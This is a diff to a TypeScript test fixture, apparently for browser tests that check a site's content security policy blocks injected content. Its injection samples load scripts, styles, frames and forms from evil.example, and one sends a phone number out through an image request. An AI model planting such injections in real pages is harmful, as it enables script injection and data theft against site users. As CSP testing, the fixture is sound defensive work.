@@ -1,25 +1,25 @@
-/** What the browser says of something that a policy refused. */
+/** The parts of the browser's `securitypolicyviolation` event that the tests read. */
 export interface Violation {
   directive: string;
   disposition: string;
 }
 
 /** Something that an attacker who can write into a page would try. */
-interface Attack {
+interface Injection {
   what: string;
-  /** The directive that has to refuse it. */
+  /** The directive of the content security policy that must block it. */
   directive: string;
-  /** Runs in the page; sets `window.hacked` or asks evil.example where it works. */
-  attack: () => void;
+  /** Runs in the page; if it is not blocked it sets `window.hacked` or sends a request to evil.example. */
+  inject: () => void;
 }
 
-// Each is sent to the page as its source, so none can share code with another. What a tool
-// evaluates in a page is exempt from the policy until the next task, hence the time-outs.
-export const attacks: Attack[] = [
+// Playwright sends each function to the page as text, so they cannot share code. What Playwright
+// evaluates is exempt from the policy until the next task, hence the calls of setTimeout.
+export const injections: Injection[] = [
   {
     what: 'an inline script',
     directive: 'script-src-elem',
-    attack: () => {
+    inject: () => {
       const script = document.createElement('script');
       script.textContent = 'window.hacked = 1';
       document.body.append(script);
@@ -28,16 +28,16 @@ export const attacks: Attack[] = [
   {
     what: 'a script of another host',
     directive: 'script-src-elem',
-    attack: () => {
+    inject: () => {
       const script = document.createElement('script');
       script.src = 'https://evil.example/steal.js';
       document.body.append(script);
     },
   },
   {
-    what: 'a script in a data address',
+    what: 'a script in a data: URL',
     directive: 'script-src-elem',
-    attack: () => {
+    inject: () => {
       const script = document.createElement('script');
       script.src = 'data:text/javascript,window.hacked=1';
       document.body.append(script);
@@ -46,14 +46,14 @@ export const attacks: Attack[] = [
   {
     what: 'an event handler in markup',
     directive: 'script-src-attr',
-    attack: () => {
+    inject: () => {
       document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="hacked = 1">');
     },
   },
   {
     what: 'a javascript: link',
     directive: 'script-src-elem',
-    attack: () => {
+    inject: () => {
       const link = document.createElement('a');
       link.href = 'javascript:void(window.hacked = 1)';
       document.body.append(link);
@@ -63,12 +63,12 @@ export const attacks: Attack[] = [
   {
     what: 'eval',
     directive: 'script-src',
-    attack: () => {
+    inject: () => {
       setTimeout(() => {
         try {
           (0, eval)('window.hacked = 1');
         } catch {
-          // Refused: what is wanted.
+          // Blocked, as it should be.
         }
       });
     },
@@ -76,12 +76,12 @@ export const attacks: Attack[] = [
   {
     what: 'a function from text',
     directive: 'script-src',
-    attack: () => {
+    inject: () => {
       setTimeout(() => {
         try {
           new Function('window.hacked = 1')();
         } catch {
-          // Refused: what is wanted.
+          // Blocked, as it should be.
         }
       });
     },
@@ -89,7 +89,7 @@ export const attacks: Attack[] = [
   {
     what: 'a style element',
     directive: 'style-src-elem',
-    attack: () => {
+    inject: () => {
       const style = document.createElement('style');
       style.textContent = '@import "https://evil.example/keys.css"; body { display: none }';
       document.head.append(style);
@@ -98,7 +98,7 @@ export const attacks: Attack[] = [
   {
     what: 'a style in markup',
     directive: 'style-src-attr',
-    attack: () => {
+    inject: () => {
       document.body.insertAdjacentHTML(
         'beforeend',
         '<p style="background: url(https://evil.example/a.png)">x</p>',
@@ -108,16 +108,16 @@ export const attacks: Attack[] = [
   {
     what: 'a frame',
     directive: 'frame-src',
-    attack: () => {
+    inject: () => {
       const frame = document.createElement('iframe');
       frame.src = 'https://evil.example/';
       document.body.append(frame);
     },
   },
   {
-    what: 'a form that posts elsewhere',
+    what: 'a form that posts to another host',
     directive: 'form-action',
-    attack: () => {
+    inject: () => {
       const form = document.createElement('form');
       form.action = 'https://evil.example/phones';
       form.method = 'post';
@@ -126,9 +126,9 @@ export const attacks: Attack[] = [
     },
   },
   {
-    what: 'a base that moves every link',
+    what: 'a base element that redirects every link',
     directive: 'base-uri',
-    attack: () => {
+    inject: () => {
       const base = document.createElement('base');
       base.href = 'https://evil.example/';
       document.head.append(base);
@@ -137,7 +137,7 @@ export const attacks: Attack[] = [
   {
     what: 'a plug-in',
     directive: 'object-src',
-    attack: () => {
+    inject: () => {
       document.body.insertAdjacentHTML(
         'beforeend',
         '<object data="https://evil.example/"></object>',
@@ -145,23 +145,23 @@ export const attacks: Attack[] = [
     },
   },
   {
-    what: 'a call to another host',
+    what: 'a request to another host',
     directive: 'connect-src',
-    attack: () => {
+    inject: () => {
       setTimeout(() => void fetch('https://evil.example/').catch(() => undefined));
     },
   },
   {
-    what: 'a picture that tells another host',
+    what: 'a picture from another host',
     directive: 'img-src',
-    attack: () => {
+    inject: () => {
       new Image().src = 'https://evil.example/pixel.gif?phone=2145550123';
     },
   },
   {
     what: 'a worker from text',
     directive: 'worker-src',
-    attack: () => {
+    inject: () => {
       const source = URL.createObjectURL(new Blob(['postMessage(1)']));
       new Worker(source).onmessage = () => Object.assign(window, { hacked: 1 });
     },
